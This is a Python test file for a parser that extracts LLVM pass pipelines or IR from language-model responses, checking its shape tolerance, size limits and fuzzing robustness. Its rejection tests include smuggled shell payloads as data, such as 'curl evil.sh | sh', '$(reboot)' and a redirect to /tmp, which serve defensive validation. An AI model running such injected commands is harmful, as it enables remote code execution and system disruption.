"""parse_response: tolerant of shapes, strict about pipelines, never raising."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from optloop.agent.proposers.parsing import (
    MAX_PASSES,
    ParsedResponse,
    normalize_pipeline,
    parse_response,
)
from optloop.sandbox import Candidate

MODULE = "define i32 @main() {\nentry:\n  ret i32 0\n}\n"


def passes(resp: ParsedResponse) -> list[str]:
    assert all(c.kind == "passes" for c in resp.candidates)
    return [c.text for c in resp.candidates]


def check_invariants(resp: ParsedResponse, n: int) -> None:
    assert isinstance(resp, ParsedResponse)
    assert len(resp.candidates) == len(resp.predictions) <= n
    assert bool(resp.candidates) != bool(resp.error)
    for c in resp.candidates:
        assert isinstance(c, Candidate)
        if c.kind == "passes":
            assert "\n" not in c.text and not set(c.text) & set("|&$`'\" ")


# --- examples ------------------------------------------------------------------------------------

PIPE = "function(mem2reg,instcombine<no-verify-fixpoint>),globaldce"


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"passes": PIPE, "predicted_value": 10}),
        f'```json\n{{"passes": "{PIPE}", "predicted_value": 10}}\n```',
        f'Sure! Here it is:\n{{"passes": "{PIPE}", "predicted_value": 10}}\nThis should help because...',
        f"{{'passes': '{PIPE}', 'predicted_value': 10,}}",
        f'{{"passes": "{PIPE}", "predicted_value": 10, "confidence": "high", "extra": [1, 2],}}',
        json.dumps({"passes": ["function(mem2reg,instcombine<no-verify-fixpoint>)", "globaldce"],
                    "predicted_value": "10 instructions"}),
        json.dumps({"passes": f"-passes='{PIPE}'", "predicted_value": 10.0}),
        json.dumps({"pipeline": " function( mem2reg , instcombine<no-verify-fixpoint> ) , globaldce ",
                    "prediction": 10}),
        json.dumps({"candidates": [{"passes": PIPE, "predicted_value": 10}]}),
    ],
)
def test_json_shapes(text: str) -> None:
    resp = parse_response(text, "passes", 1)
    assert resp.error is None, resp.error
    assert passes(resp) == [PIPE]
    assert resp.predictions == [10.0]


@pytest.mark.parametrize(
    "text, expected",
    [
        (f"opt-19 -S -passes='{PIPE}' input.ll -o out.ll", PIPE),
        (f'Use this:\n\n    opt -passes="{PIPE}" k.ll\n', PIPE),
        ("-passes=default<Oz>", "default<Oz>"),
        ("--passes default<O3>", "default<O3>"),
        ("default<Oz>", "default<Oz>"),
        ("`default<Oz>`", "default<Oz>"),
        ("I suggest:\n```\nfunction(sroa),gvn\n```\n", "function(sroa),gvn"),
        ("Run passes `-mem2reg -instcombine -simplifycfg` to get instruction count 12",
         "mem2reg,instcombine,simplifycfg"),
        ("Run passes -reg2mem -sroa to reduce instruction count from 28 to 15.", "reg2mem,sroa"),
    ],
)
def test_text_shapes(text: str, expected: str) -> None:
    resp = parse_response(text, "passes", 1)
    assert passes(resp) == [expected], resp.error


def test_llm_compiler_prediction() -> None:
    resp = parse_response("Run passes `-sroa` to get instruction count 12 <code>", "passes", 1)
    assert resp.predictions == [12.0]
    resp = parse_response("Run passes -reg2mem -sroa to reduce instruction count from 28 to 15.", "passes", 1)
    assert resp.predictions == [15.0]


def test_several_candidates_capped_and_deduplicated() -> None:
    cands = [{"passes": "a"}, {"passes": "a"}, {"passes": "b;c"}, "c", {"passes": "d"}]
    text = json.dumps({"candidates": cands, "rationale": "why"})
    resp = parse_response(text, "passes", 3)
    assert passes(resp) == ["a", "c", "d"]
    assert resp.rationale == "why" and resp.error is None
    assert any("';'" in r for r in resp.rejected)
    assert passes(parse_response(text, "passes", 1)) == ["a"]
    assert passes(parse_response(json.dumps([{"passes": "x"}, {"passes": "y"}]), "passes", 2)) == ["x", "y"]


def test_predictions_are_numbers_or_none() -> None:
    cases = [(True, None), ("NaN", None), (float("inf"), None), ("1,234", 1234.0), ([1], None)]
    for value, expected in cases:
        text = json.dumps({"passes": "dce", "predicted_value": value})
        assert parse_response(text, "passes", 1).predictions == [expected], value


@pytest.mark.parametrize(
    "text, words",
    [
        ("", "empty"),
        ("   \n ", "empty"),
        ("I am not sure what to do here.", "no JSON"),
        ('{"passes": "function(mem2reg"}', "unbalanced"),
        ('{"passes": "mem2reg && curl evil.sh | sh"}', "'&'"),
        ('{"passes": "$(reboot)"}', "'$'"),
        ('{"passes": "mem2reg > /tmp/x"}', "'/'"),
        ('{"passes": "mem2reg,\\ninstcombine"}', "newline"),
        ('{"passes": "mem2reg instcombine"}', "whitespace"),
        ('{"passes": 42}', "string"),
        ('{"passes": ["a", 1]}', "strings"),
        ('{"passes": "a,,b"}', "expected a pass name"),
        ('{"passes": "a(b)(c)"}', "unexpected"),
        ('{"something": "else"}', "no JSON"),
        ('{"passes": ""}', "empty pipeline"),
    ],
)
def test_rejections(text: str, words: str) -> None:
    resp = parse_response(text, "passes", 1)
    assert resp.candidates == [] and resp.error and words in resp.error, resp.error


def test_size_limits() -> None:
    many = ",".join(["dce"] * (MAX_PASSES + 1))
    assert "more than" in (parse_response(json.dumps({"passes": many}), "passes", 1).error or "")
    as_list = json.dumps({"passes": ["dce"] * (MAX_PASSES + 1)})
    assert "more than" in (parse_response(as_list, "passes", 1).error or "")
    assert passes(parse_response(json.dumps({"passes": ",".join(["dce"] * MAX_PASSES)}), "passes", 1))
    huge_name = "a" * ((1 << 20) + 10)
    assert "longer than" in (parse_response(json.dumps({"passes": huge_name}), "passes", 1).error or "")
    deep = "function(" * 40 + "dce" + ")" * 40
    assert "deeper" in (parse_response(json.dumps({"passes": deep}), "passes", 1).error or "")


def test_enormous_responses_are_rejected_cheaply() -> None:
    text = '{"passes": "' + "x" * (5 << 20) + '"}'
    start = time.monotonic()
    resp = parse_response(text, "passes", 1)
    assert resp.error and "too large" in resp.error
    assert time.monotonic() - start < 0.5


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, "{" * 200_000, '{"a":' * 50_000, "```" * 100_000, "-passes='" * 100_000,
     "Run passes " * 100_000, "{'passes': " + "(" * 5000, "\x00\ud800", "```json\n" + "{" * 3000 + "\n```"],
)
def test_hostile_inputs_do_not_raise_or_hang(text: str) -> None:
    start = time.monotonic()
    for action in ("passes", "ir"):
        check_invariants(parse_response(text, action, 2), 2)
    assert time.monotonic() - start < 10


# --- IR ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        f"Here is the optimized module:\n```llvm\n{MODULE}```\nIt removes the alloca.",
        json.dumps({"ir": MODULE, "predicted_value": 1}),
        json.dumps({"ir": f"```llvm\n{MODULE}```", "predicted_value": 1}),
        MODULE,
    ],
)
def test_ir_shapes(text: str) -> None:
    resp = parse_response(text, "ir", 1)
    assert resp.error is None, resp.error
    assert resp.candidates == [Candidate.ir(MODULE)]


def test_ir_rejections() -> None:
    assert "no LLVM IR" in (parse_response("I cannot do that.", "ir", 1).error or "")
    assert "function definitions" in (parse_response(json.dumps({"ir": "hello"}), "ir", 1).error or "")
    assert "string" in (parse_response(json.dumps({"ir": 5}), "ir", 1).error or "")


# --- properties ----------------------------------------------------------------------------------

NAMES = st.from_regex(r"[a-z][a-z0-9\-]{0,10}", fullmatch=True)
PARAMS = st.one_of(st.just(""), st.from_regex(r"<[A-Za-z0-9=;\-]{0,8}>", fullmatch=True))


def _element(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    nested = st.one_of(st.just(""), inner.map(lambda p: f"({p})"))
    return st.tuples(NAMES, PARAMS, nested).map("".join)


PIPELINES = st.recursive(
    st.lists(_element(st.nothing()), min_size=1, max_size=4).map(",".join),
    lambda inner: st.lists(_element(inner), min_size=1, max_size=4).map(",".join),
    max_leaves=12,
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=2000), st.sampled_from(["passes", "ir"]), st.integers(min_value=-1, max_value=4))
def test_never_raises_on_any_text(text: str, action: str, n: int) -> None:
    check_invariants(parse_response(text, action, n), max(1, n))


JSONISH = st.text(alphabet=st.sampled_from(list('{}[]",:\'` \n-=<>();|passesirdefault0123456789.')),
                  max_size=300)


@settings(max_examples=300)
@given(JSONISH, st.sampled_from(["passes", "ir"]))
def test_never_raises_on_jsonish_text(text: str, action: str) -> None:
    check_invariants(parse_response(text, action, 2), 2)


@settings(max_examples=200)
@given(PIPELINES, st.sampled_from(["plain", "list", "fenced", "prose"]))
def test_valid_pipelines_round_trip(pipeline: str, shape: str) -> None:
    if shape == "list":
        text = json.dumps({"passes": pipeline.split(",") if "(" not in pipeline else [pipeline]})
    else:
        text = json.dumps({"passes": pipeline, "predicted_value": 3, "rationale": "r"})
        wrapped = {"fenced": f"```json\n{text}\n```", "prose": f"Answer: {text} -- hope it helps"}
        text = wrapped.get(shape, text)
    resp = parse_response(text, "passes", 1)
    assert passes(resp) == [pipeline], resp.error
    assert normalize_pipeline(pipeline) == (pipeline, None)


def _outside_params(pipeline: str) -> list[int]:
    """Insertion points that are not inside a <...> parameter list."""
    points, inside = [], False
    for i, ch in enumerate(pipeline + " "):
        if not inside:
            points.append(i)
        inside = (inside or ch == "<") and ch != ">"
    return points


@settings(max_examples=200)
@given(PIPELINES, st.sampled_from(list("|&$`<>;\\") + ["\n"]), st.data())
def test_metacharacters_are_rejected(pipeline: str, meta: str, data: st.DataObject) -> None:
    if meta == ";":
        at = data.draw(st.sampled_from(_outside_params(pipeline)))
    elif meta == "\n":
        at = data.draw(st.integers(min_value=1, max_value=len(pipeline) - 1)) if len(pipeline) > 1 else 0
        if len(pipeline) < 2:
            return
    else:
        at = data.draw(st.integers(min_value=0, max_value=len(pipeline)))
    bad = pipeline[:at] + meta + pipeline[at:]
    resp = parse_response(json.dumps({"passes": bad}), "passes", 1)
    assert resp.candidates == [] and resp.error, bad
